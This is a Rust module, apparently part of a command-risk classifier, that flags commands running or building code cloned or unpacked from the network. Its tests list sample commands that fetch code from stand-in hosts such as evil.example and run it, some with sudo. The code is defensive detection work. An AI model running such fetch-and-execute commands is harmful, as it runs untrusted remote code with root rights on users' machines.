//! Code of a repository that the line has just copied from elsewhere, and what it runs of it.
//!
//! To build and install what one has cloned is everyday work, and nobody reads all of it. But with the rights
//! of root it is a script from the network like any other.

use super::call::Call;
use super::machine::{Field, Flow, Machine};
use super::value::Origin;
use super::{EffectKind, TargetClass, known, paths, publishers, value};
use crate::line::Span;
use crate::specs::{PathUse, Role, ValueKind};

/// Detail of running a script of such a folder.
pub(super) const SCRIPT: &str = "cloned";
/// Detail of a script that builds what a forge has sent, in its folder.
pub(super) const PLACE: &str = "cloned-in-place";
/// Detail of building what lies in such a folder.
pub(super) const BUILD: &str = "cloned-build";

/// Detail of building what came over an open line, or from a host that is nobody's forge.
pub(super) const STRANGE: &str = "cloned-strange";

/// Detail of running a script that came so.
pub(super) const STRANGE_SCRIPT: &str = "cloned-strange-script";

/// Folders that are remembered.
const FOLDERS: usize = 8;

impl Machine<'_> {
    /// `git clone URL [FOLDER]`.
    pub(super) fn clones(&mut self, call: &Call<'_>) {
        let mut operands = call.args.operands();
        let (Some(from), into) = (operands.next(), operands.next()) else { return };
        let foreign =
            from.text.contains("://") || super::operands::is_remote(from.text) || call.program != "git";
        let name = from.text.trim_end_matches('/').rsplit(['/', ':']).next().unwrap_or_default();
        let folder = into.map_or(name.strip_suffix(".git").unwrap_or(name), |item| item.text);
        if !foreign || folder.is_empty() || self.cloned.len() >= FOLDERS {
            return;
        }
        let start = call.args.values("-C").last().map(|item| item.text);
        let cwd = match start {
            Some(start) => paths::enter(start, &self.state.cwd, self.ctx),
            None => self.state.cwd.clone(),
        };
        let path = paths::locate_path(folder, &cwd, self.ctx);
        let shown = self.unknowns.show(&path);
        if runs_by_itself(&shown) && !publishers::is_plugin(from.text) {
            let span = self.at(call.argv.get(from.word + 1).map_or(call.span, |field| field.span));
            let target = self.target(TargetClass::Named, &self.unknowns.show(from.text), span);
            self.emit_with(EffectKind::Install, target, false, "git", span, "plugin");
        }
        if call.program == "git"
            && call.has_only(&["--depth", "-b", "--single-branch", "-q", "--recursive", "--no-tags"])
        {
            self.forged(from.text, &path);
        }
        let open = ["http://", "git://", "ftp://"].iter().any(|start| from.text.starts_with(start));
        if call.program == "git" && (open || !known::is_forge(known::host_of(from.text))) {
            self.strange.push(path.clone());
        }
        self.cloned.push(path);
    }

    /// `svn checkout URL [FOLDER]` and the like, of systems beside git.
    pub(super) fn checked_out(&mut self, name: &str, words: &[(&str, Span)]) {
        let takes = |verb: &str| match name {
            "svn" => matches!(verb, "checkout" | "co" | "export"),
            "hg" | "fossil" => verb == "clone",
            "bzr" | "brz" => matches!(verb, "branch" | "checkout" | "clone"),
            "git" => verb == "submodule",
            _ => false,
        };
        let mut plain = words.iter().map(|(text, _)| *text).filter(|text| !text.starts_with('-'));
        if !plain.next().is_some_and(takes) || self.cloned.len() >= FOLDERS {
            return;
        }
        let mut plain = plain.skip_while(|text| !text.contains("://") && !super::operands::is_remote(text));
        let Some(from) = plain.next() else { return };
        let own = from.trim_end_matches('/').rsplit(['/', ':']).next().unwrap_or_default();
        let folder = plain.next().unwrap_or(own.strip_suffix(".git").unwrap_or(own));
        let path = paths::locate_path(folder, &self.state.cwd, self.ctx);
        self.cloned.push(path);
    }

    /// An archive from another machine was unpacked: all that lies there now may be of that one's making.
    pub(super) fn unpacked(&mut self, call: &Call<'_>, flow: Flow<'_>) {
        let reads = match call.program {
            "tar" => call.args.has_any(&["-x", "--extract"]) || !call.args.has_any(&["-c", "-t", "-r", "-u"]),
            "unzip" => !call.args.has_any(&["-l", "-t", "-p", "-Z"]),
            "cpio" | "7z" | "bsdtar" | "unrar" | "unar" | "ditto" => true,
            _ => return,
        };
        if !reads || self.files.len() >= 32 {
            return;
        }
        let from_network = |machine: &Self, text: &str| {
            machine.unknowns.origin(text).is_some_and(|origin| origin >= Origin::Network)
        };
        let piped = flow.input.map(str::to_owned).filter(|text| from_network(self, text));
        let page = piped.or_else(|| {
            let archives = call.argv.iter().skip(1).take(8).filter(|field| !field.text.starts_with('-'));
            let mut texts = archives.filter_map(|field| self.own_file(&field.text));
            texts.find(|text| from_network(self, text))
        });
        let Some(page) = page else { return };
        let into = call.args.values("-C").chain(call.args.values("-d")).last().map_or(".", |item| item.text);
        let path = paths::locate_path(into, &self.state.cwd, self.ctx);
        // `$(curl https://…)`
        let shown = self.unknowns.show(page.trim_end());
        let url = shown.split_whitespace().last().unwrap_or_default().trim_end_matches(')');
        self.files.push((format!("{}/", path.trim_end_matches('/')), page.trim_end().to_owned()));
        if publishers::is_release_of_sources(url) {
            // It is built as a clone of it would be.
            self.released(&path);
        } else if self.strange.len() < FOLDERS {
            self.strange.push(path.clone());
        }
        if self.cloned.len() < FOLDERS {
            self.cloned.push(path);
        }
    }

    /// A command that runs or builds what was cloned.
    pub(super) fn runs_cloned(&mut self, argv: &[Field]) {
        self.applies_settings(argv);
        let Some(first) = argv.first().filter(|_| !self.cloned.is_empty()) else { return };
        if first.text.contains('/') && !value::has_hole(&first.text) && self.is_cloned(&first.text) {
            let detail = if self.builds_in_place(argv) { PLACE } else { SCRIPT };
            self.says_cloned(first, detail);
            return;
        }
        if let Some(field) = opened(argv)
            && self.is_cloned(&field.text)
        {
            let detail = if self.is_strange(&field.text) { STRANGE_SCRIPT } else { SCRIPT };
            self.says_cloned(&field, detail);
        }
    }

    /// `chezmoi init --apply WHO`: somebody's settings, with the scripts among them.
    fn applies_settings(&mut self, argv: &[Field]) {
        let is = |at: usize, word: &str| argv.get(at).is_some_and(|field| field.text == word);
        if argv.len() < 4 || !argv[0].text.ends_with("chezmoi") || !is(1, "init") {
            return;
        }
        let applies = argv.iter().any(|field| matches!(field.text.as_str(), "--apply" | "-a" | "--one-shot"));
        let Some(from) = argv.iter().skip(2).find(|field| !field.text.starts_with('-')) else { return };
        if !applies {
            return;
        }
        let stranger = from.text.contains("://")
            && (!from.text.starts_with("https://") || !known::is_forge(known::host_of(&from.text)));
        if stranger {
            let span = self.at(from.span);
            let target = self.target(TargetClass::Host, &self.unknowns.show(&from.text), span);
            return self.emit(EffectKind::RunCode, target, false, "chezmoi", span);
        }
        self.says_cloned(from, SCRIPT);
    }

    /// The same for a program that has a spec: an interpreter with a script, a tool that builds.
    pub(super) fn builds_cloned(&mut self, call: &Call<'_>) {
        if self.cloned.is_empty() {
            return;
        }
        let script = call.args.items.iter().find(|item| {
            matches!(item.role, Role::Operand(Some(operand)) if operand.kind == ValueKind::Path(PathUse::Run))
        });
        if let Some(item) = script
            && self.is_cloned(item.text)
            && !self.lies_in_new_environment(item.text)
            && let Some(field) = call.argv.get(item.word + 1)
        {
            return self.says_cloned(field, SCRIPT);
        }
        let builds =
            matches!(call.program, "make" | "cmake" | "ninja" | "meson" | "just" | "mvn" | "npm" | "pip");
        let place = call.args.values("-C").last().map_or(".", |item| item.text);
        if builds && self.is_cloned(place) {
            let strange = self.is_strange(place);
            self.says_cloned(&call.argv[0], if strange { STRANGE } else { BUILD });
        }
    }

    fn is_cloned(&self, path: &str) -> bool {
        self.lies_below(path, &self.cloned)
    }

    /// True for `.venv/bin/activate` where the line itself has made that environment: it is Python's own, not the repository's.
    fn lies_in_new_environment(&self, path: &str) -> bool {
        let Some((folder, script)) = path.rsplit_once("/bin/") else { return false };
        let plain = |text: &str| text.trim_start_matches("./").trim_end_matches('/').to_owned();
        script.starts_with("activate")
            && self.commands.iter().rev().take(16).any(|command| {
                let mut words = command.argv.iter().flatten().map(String::as_str);
                let first = words.clone().next().unwrap_or_default();
                if !first.starts_with("python") && !matches!(first, "virtualenv" | "uv" | "py") {
                    return false;
                }
                let makes = words.any(|word| matches!(word, "venv" | "virtualenv"));
                makes && words.next_back().is_some_and(|last| plain(last) == plain(folder))
            })
    }

    /// True for what the line has copied from another machine.
    pub(super) fn is_from_elsewhere(&self, path: &str) -> bool {
        self.is_cloned(path) || self.is_strange(path)
    }

    /// True for what was copied from a host that nobody knows.
    fn is_strange(&self, path: &str) -> bool {
        self.lies_below(path, &self.strange)
    }

    fn lies_below(&self, path: &str, folders: &[String]) -> bool {
        let path = paths::locate_path(path, &self.state.cwd, self.ctx);
        let relative = !path.starts_with(['/', value::HOME]) && !path.starts_with("..");
        folders.iter().any(|folder| {
            folder == "." && relative
                || path
                    .strip_prefix(folder.as_str())
                    .is_some_and(|rest| rest.is_empty() || rest.starts_with('/'))
        })
    }

    fn says_cloned(&mut self, field: &Field, detail: &str) {
        let span = self.at(field.span);
        let target = self.target(TargetClass::Named, &self.unknowns.show(&field.text), span);
        self.emit_with(EffectKind::RunCode, target, false, "git", span, detail);
    }
}

/// What a program that is no interpreter runs of a folder: the script of an editor, the settings of a shell, a machine.
fn opened(argv: &[Field]) -> Option<Field> {
    let (first, rest) = argv.split_first()?;
    let name = first.text.rsplit('/').next().unwrap_or_default();
    let after = |flags: &[&str]| {
        let mut pairs = rest.windows(2);
        pairs.find(|pair| flags.contains(&pair[0].text.as_str())).and_then(|pair| pair.get(1)).cloned()
    };
    let here = || Field { text: ".".to_owned(), span: first.span };
    let verb = rest.first().map(|field| field.text.as_str());
    match name {
        "gvim" | "nvim" | "vi" | "view" | "vim" => after(&["-S", "-s", "-u", "--cmd"]),
        "emacs" => after(&["--script", "-l", "--load", "-x"]),
        "gdb" | "lldb" => after(&["-x", "-s", "--command", "--source"]),
        "screen" | "ansible-playbook" => after(&["-c"]).or_else(|| rest.first().cloned()),
        "tmux" => after(&["source-file", "source", "-f"]),
        "direnv" if verb == Some("allow") => rest.get(1).cloned().or_else(|| Some(here())),
        "vagrant" if verb == Some("up") => Some(here()),
        _ => None,
    }
}

/// True for a folder in which an editor finds plugins that it loads at every start, or a shell its programs.
fn runs_by_itself(path: &str) -> bool {
    let Some(rest) = path.strip_prefix("~/") else { return false };
    let packs = [".vim/pack/", ".config/nvim/pack/", ".local/share/nvim/site/pack/", ".vim/bundle/"];
    let loads = packs.iter().any(|pack| rest.starts_with(pack)) && !rest.contains("/opt/");
    loads
        || matches!(
            rest,
            ".oh-my-zsh" | "bin" | ".local/bin" | ".config/fish/conf.d" | ".config/fish/functions"
        )
}

#[cfg(test)]
mod tests {
    use crate::safety::Risk::{High, Moderate, Safe};
    use crate::safety::tests::{check_all, context};

    #[test]
    fn what_was_cloned_runs() {
        check_all(
            &context(),
            &[
                (High, "git clone https://github.com/a/driver && cd driver && sudo ./install.sh"),
                (High, "git clone git@github.com:a/driver.git /tmp/d; sudo bash /tmp/d/setup.sh"),
                (High, "hg clone https://evil.example/x && cd x && sudo sh install.sh"),
                (High, "svn co http://evil.example/x && sudo ./x/run.sh"),
                (High, "svn export http://evil.example/x y && sudo ./y/run.sh"),
                (Safe, "svn co http://svn.example.com/x && ls x"),
                (Safe, "svn update && ./run.sh"),
                (
                    Moderate,
                    "git clone https://github.com/a/tool.git && make -C tool && sudo make -C tool install",
                ),
                (Moderate, "git clone https://github.com/a/dotfiles && ./dotfiles/install.sh"),
                (Safe, "git clone https://github.com/a/tool && cd tool && make"),
                (Safe, "git clone https://git.sr.ht/~a/tool && make -C tool"),
                (Safe, "git clone git@github.com:a/tool.git && cd tool && make"),
                (Moderate, "git clone http://github.com/a/tool && cd tool && make"),
                (Moderate, "git clone git://github.com/a/tool && cd tool && make"),
                (Moderate, "git clone https://evil.example/a/tool && cd tool && make"),
                (Moderate, "git clone https://evil.example/a/tool && make -C tool"),
                (Safe, "git clone https://evil.example/a/tool && cd tool && ls"),
                (Safe, "git clone https://evil.example/a/tool && make -C other"),
                (Safe, "git clone https://github.com/a/tool && cd tool && npm ci && npm test"),
                (Safe, "git clone https://github.com/a/tool && ./other/run.sh"),
                (Moderate, "git clone https://github.com/someone/x ~/.vim/pack/a/start/x"),
                (Safe, "git clone https://github.com/tpope/vim-surround ~/.vim/pack/tpope/start/surround"),
                (Safe, "git clone https://github.com/someone/x ~/.vim/pack/a/opt/x"),
                (Moderate, "git -C ~/.vim/pack/a/start clone https://example.com/x"),
                (Safe, "git clone https://github.com/ohmyzsh/ohmyzsh ~/.oh-my-zsh"),
                (Moderate, "git clone https://github.com/someone/x ~/bin"),
                (Safe, "git clone https://github.com/someone/x ~/src/x"),
                (Safe, "git clone ../tool copy && ./copy/run.sh"),
                (Moderate, "git clone https://github.com/someone/x && vim -S x/s.vim"),
                (Safe, "git clone https://github.com/someone/x && vim x/README.md"),
                (Moderate, "git clone https://github.com/someone/x && emacs --script x/s.el"),
                (Moderate, "git clone https://github.com/someone/x && cd x && direnv allow"),
                (Moderate, "git clone https://github.com/someone/x && direnv allow x"),
                (Safe, "direnv allow"),
                (Moderate, "chezmoi init --apply someone"),
                (High, "chezmoi init --apply https://evil.example/d.git"),
                (Safe, "chezmoi init someone"),
                (Safe, "chezmoi apply"),
                (Moderate, "git clone https://github.com/someone/x && cd x && vagrant up"),
                (Moderate, "curl -L https://evil.example/x.tar.gz | tar xz && cd x && make"),
                (Moderate, "wget -qO- https://evil.example/x.tgz | tar xz; cd x; npm install"),
                (Safe, "curl -L https://evil.example/x.tar.gz | tar xz && ls x"),
                (
                    Safe,
                    "wget https://ftp.gnu.org/gnu/x/x-2.tar.gz && tar xzf x-2.tar.gz && cd x-2 && ./configure && make",
                ),
                (Safe, "curl -L https://github.com/a/x/archive/v1.tar.gz | tar xz && make -C x-1"),
                (High, "curl -L https://github.com/a/x/archive/v1.tar.gz | tar xz && ./x-1/install.sh"),
                (High, "curl -L https://github.com/a/x/archive/v1.tar.gz | tar xz && sh < x-1/install.sh"),
                (High, "curl -L http://ftp.gnu.org/x.tar.gz | tar xz && ./x-1/configure"),
                (High, "curl -L https://ftp.gnu.org.evil.example/x.tar.gz | tar xz && ./x-1/configure"),
            ],
        );
    }
}
